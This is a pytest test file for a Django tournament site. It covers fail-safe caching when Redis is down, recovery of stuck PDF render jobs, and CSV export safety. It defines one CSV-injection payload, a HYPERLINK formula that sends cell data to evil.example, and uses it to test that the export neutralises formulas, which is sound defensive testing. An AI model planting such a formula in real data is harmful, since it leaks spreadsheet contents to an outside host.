"""Without Redis the site keeps working; documents never stay pending; exports are inert."""

import csv
import datetime as dt
import io

import pytest
from django.core.cache import caches
from django.urls import reverse
from django.utils import timezone
from kombu.exceptions import OperationalError

from tournament.core.cache import FailSafeRedisCache
from tournament.core.export import neutralise_formula
from tournament.printing import services
from tournament.printing.models import CachedDocument

pytestmark = pytest.mark.django_db

# Nothing listens on port 1: every connection is refused at once.
DEAD_REDIS = "redis://127.0.0.1:1/0"


@pytest.fixture
def redis_down(settings):
    settings.CACHES = {
        "default": {"BACKEND": "tournament.core.cache.FailSafeRedisCache", "LOCATION": DEAD_REDIS}
    }
    yield caches["default"]


def test_fail_safe_cache_answers_as_an_empty_cache(redis_down):
    cache = redis_down
    assert isinstance(cache, FailSafeRedisCache)
    cache.set("a", 1)
    assert cache.get("a") is None
    assert cache.get("a", "default") == "default"
    assert cache.get_or_set("b", 2) == 2
    assert cache.get_many(["a", "b"]) == {}
    with pytest.raises(ValueError):  # as for a missing key: callers already handle it
        cache.incr("a")
    cache.delete("a")
    cache.clear()
    assert not cache.is_available  # the breaker is open: no more connection attempts for now
    assert cache.ping() is False


def test_pages_and_api_answer_with_redis_down(
    redis_down, client_as, organizer, event, registered_players
):
    import random

    from tournament.rounds.simulate import run_event
    from tournament.standings.recompute import refresh_event

    run_event(event, random.Random(7))
    refresh_event(event)
    client = client_as(None)
    for url in (
        reverse("standings:event", args=[event.pk]),
        reverse("ranking:ranking"),
        f"/api/v1/events/{event.pk}/standings/",
        "/api/v1/ranking/",
    ):
        assert client.get(url).status_code == 200, url
    health = client.get("/healthz")
    assert health.status_code == 503 and health.json()["cache"] == "down"


def test_profile_save_with_redis_down(redis_down, client_as, player):
    response = client_as(player).post(
        reverse("accounts:profile"), {"name": "New Name", "country": "", "region": "", "club": ""}
    )
    assert response.status_code == 302
    player.refresh_from_db()
    assert player.name == "New Name"


# -- broker down ----------------------------------------------------------------------------


@pytest.fixture
def broker_down(monkeypatch):
    """Queueing raises as with Redis stopped; the request behaves as with a real broker."""
    from celery import current_app

    from tournament.printing import tasks

    def refuse(*args, **kwargs):
        raise OperationalError("Error 111 connecting to 127.0.0.1:6390. Connection refused.")

    monkeypatch.setattr(tasks.render_document, "delay", refuse)
    saved = current_app.conf.task_always_eager
    current_app.conf.task_always_eager = False
    yield
    current_app.conf.task_always_eager = saved


def test_pdf_request_with_broker_down_says_try_again(
    broker_down, client_as, organizer, event, played_round, django_capture_on_commit_callbacks
):
    client = client_as(organizer)
    url = reverse("printing:generate", args=[event.pk, "brackets"])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"round": 1})
    assert response.status_code == 302
    doc = CachedDocument.objects.get()
    assert doc.state == CachedDocument.State.FAILED
    page = client.get(response.url).content.decode()
    assert "The print queue is not available right now. Try again in a minute." in page
    assert "Try again" in page and "every 1s" not in page  # the box stops polling


def test_confirmed_result_is_saved_with_broker_down(
    broker_down, client_as, organizer, event, played_round, django_capture_on_commit_callbacks
):
    from tournament.results.models import Game
    from tournament.standings.recompute import refresh_event

    doc = services.request_document(
        services.DocumentRequest(kind="brackets", event=event, paper="A4", round=played_round)
    )
    CachedDocument.objects.filter(pk=doc.pk).update(state=CachedDocument.State.DONE)
    game = Game.objects.filter(bracket__round=played_round).order_by("id").first()
    loser = next(k for k in game.unrazed if int(k) != game.winner_id and game.unrazed[k] > 0)
    game.unrazed[loser] -= 1
    game.save()
    with django_capture_on_commit_callbacks(execute=True):
        refresh_event(event)  # the recompute a result runs; must not raise
    doc.refresh_from_db()  # the stale file is not served: asked again, it is queued again
    assert doc.state == CachedDocument.State.FAILED
    assert services.is_stale(doc)


# -- stuck documents ------------------------------------------------------------------------


def pending_since(event, rnd, age: dt.timedelta) -> CachedDocument:
    doc = services.request_document(
        services.DocumentRequest(kind="brackets", event=event, paper="A4", round=rnd)
    )
    CachedDocument.objects.filter(pk=doc.pk).update(
        state=CachedDocument.State.PENDING, created=timezone.now() - age, generated_at=None
    )
    doc.refresh_from_db()
    return doc


def test_lost_pending_document_is_sent_again(client_as, organizer, event, played_round):
    doc = pending_since(event, played_round, services.PENDING_TIMEOUT + dt.timedelta(seconds=1))
    response = client_as(organizer).get(reverse("printing:status", args=[event.pk, doc.pk]))
    assert response.status_code == 200
    doc.refresh_from_db()
    assert doc.state == CachedDocument.State.DONE  # sent again (in-process here) and rendered


def test_young_pending_document_is_left_alone(event, played_round):
    doc = pending_since(event, played_round, dt.timedelta(seconds=1))
    assert services.recover_if_stuck(doc).state == CachedDocument.State.PENDING


def test_document_pending_too_long_fails_with_try_again(client_as, organizer, event, played_round):
    doc = pending_since(event, played_round, services.PENDING_TIMEOUT * services.SENDS)
    client = client_as(organizer)
    page = client.get(reverse("printing:status", args=[event.pk, doc.pk])).content.decode()
    doc.refresh_from_db()
    assert doc.state == CachedDocument.State.FAILED
    assert "The document was not generated in time. Try again." in page
    assert "every 1s" not in page
    retry = client.post(reverse("printing:retry", args=[event.pk, doc.pk]))
    assert retry.status_code == 302
    doc.refresh_from_db()
    assert doc.state == CachedDocument.State.DONE


def test_beat_schedules_purge_and_recovery():
    from django.conf import settings

    from tournament.celery import app

    app.loader.import_default_modules()
    scheduled = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert {"printing.purge_expired", "printing.recover_stuck"} <= scheduled
    assert scheduled <= set(app.tasks)


def test_purge_command_deletes_expired_documents(event, played_round):
    from django.core.management import call_command

    doc = pending_since(event, played_round, dt.timedelta(0))
    CachedDocument.objects.filter(pk=doc.pk).update(
        state=CachedDocument.State.DONE, expires=timezone.now() - dt.timedelta(seconds=1)
    )
    out = io.StringIO()
    call_command("purge_documents", stdout=out)
    assert "purged 1 expired" in out.getvalue()
    assert not CachedDocument.objects.exists()


# -- exports --------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),  # a negative number is data
        ("Club 1", "Club 1"),
        (12, 12),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


def test_standings_csv_neutralises_a_formula_club(client_as, event, registered_players):
    import random

    from tournament.rounds.simulate import run_event
    from tournament.standings.recompute import refresh_event

    player = registered_players[0]
    player.club = EVIL
    player.save()
    run_event(event, random.Random(7))
    refresh_event(event)
    response = client_as(None).get(reverse("standings:event", args=[event.pk]), {"_export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_a_render_that_stopped_beating_is_sent_again_within_a_minute(event, played_round):
    """A worker killed mid-render: its heartbeat stops, the document is sent again as soon as
    the heartbeat's lifetime ran out, long before the task's time limit."""
    from django.core.cache import cache

    from tournament.printing import heartbeat

    doc = pending_since(event, played_round, dt.timedelta(seconds=heartbeat.ALIVE_SECONDS + 5))
    assert heartbeat.ALIVE_SECONDS <= 60 < services.PENDING_TIMEOUT.total_seconds()
    cache.set(f"printing:started:{doc.pk}", True)  # the killed render had begun ...
    assert heartbeat.state(doc.pk) is heartbeat.RenderState.LOST  # ... and beats no more
    assert services.recover_if_stuck(doc).state == CachedDocument.State.DONE


def test_a_render_still_beating_is_left_alone(event, played_round):
    from django.core.cache import cache

    doc = pending_since(event, played_round, services.PENDING_TIMEOUT * 2)
    cache.set(f"printing:started:{doc.pk}", True)
    cache.set(f"printing:alive:{doc.pk}", True)  # a long render, still at work
    assert services.recover_if_stuck(doc).state == CachedDocument.State.PENDING


def test_a_document_waiting_in_the_queue_keeps_the_long_timeout(event, played_round):
    from tournament.printing import heartbeat

    doc = pending_since(event, played_round, dt.timedelta(seconds=heartbeat.ALIVE_SECONDS * 3))
    assert heartbeat.state(doc.pk) is heartbeat.RenderState.NOT_STARTED
    assert services.recover_if_stuck(doc).state == CachedDocument.State.PENDING


def test_the_heartbeat_beats_during_the_render_and_stops_after(monkeypatch):
    from tournament.printing import heartbeat

    monkeypatch.setattr(heartbeat, "BEAT_SECONDS", 0.01)
    with heartbeat.beating(42):
        assert heartbeat.state(42) is heartbeat.RenderState.ALIVE
    assert heartbeat.state(42) is heartbeat.RenderState.NOT_STARTED
